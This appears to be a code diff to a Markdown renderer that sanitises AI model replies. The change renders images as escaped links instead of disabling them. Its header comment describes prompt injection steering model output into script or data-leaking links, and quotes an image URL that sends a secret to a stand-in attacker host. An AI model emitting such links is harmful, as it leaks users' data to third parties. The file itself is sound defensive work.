@@ -2,9 +2,10 @@
 // steered (by a prompt, a document, a web page it was asked to summarise) into containing HTML or
 // links crafted to run script or leak data, so nothing in it may execute or load anything.
 //
-// Three layers: markdown-it with raw HTML off (tags in the text are shown as text), no image rule
-// (![](https://attacker/?q=secret) would fetch a URL the moment it is drawn), and DOMPurify over the
-// result with an allow-list of tags, attributes and URL schemes.
+// Three layers: markdown-it with raw HTML off (tags in the text are shown as text), images drawn as
+// links the user may open (![](https://attacker/?q=secret) would fetch a URL the moment it is drawn),
+// and DOMPurify over the result with an allow-list of tags, attributes and URL schemes. Replies in
+// cells get the same treatment in Python (lmnb/markup.py).
 import MarkdownIt from "markdown-it";
 import DOMPurify from "dompurify";
 import hljs from "highlight.js/lib/core";
@@ -44,7 +45,12 @@ const md = new MarkdownIt({
     }
   },
 });
-md.disable("image");
+md.renderer.rules.image = (tokens, idx, options, env, self) => {
+  const token = tokens[idx];
+  const src = md.utils.escapeHtml(token.attrGet("src") || "");
+  const alt = md.utils.escapeHtml(self.renderInlineAsText(token.children || [], options, env) || token.attrGet("src") || "");
+  return `<a href="${src}" title="image: ${src}">\u{1f5bc} ${alt}</a>`;
+};
 
 const ALLOWED_TAGS = [
   "a", "p", "br", "hr", "em", "strong", "s", "del", "code", "pre", "blockquote", "ul", "ol", "li",
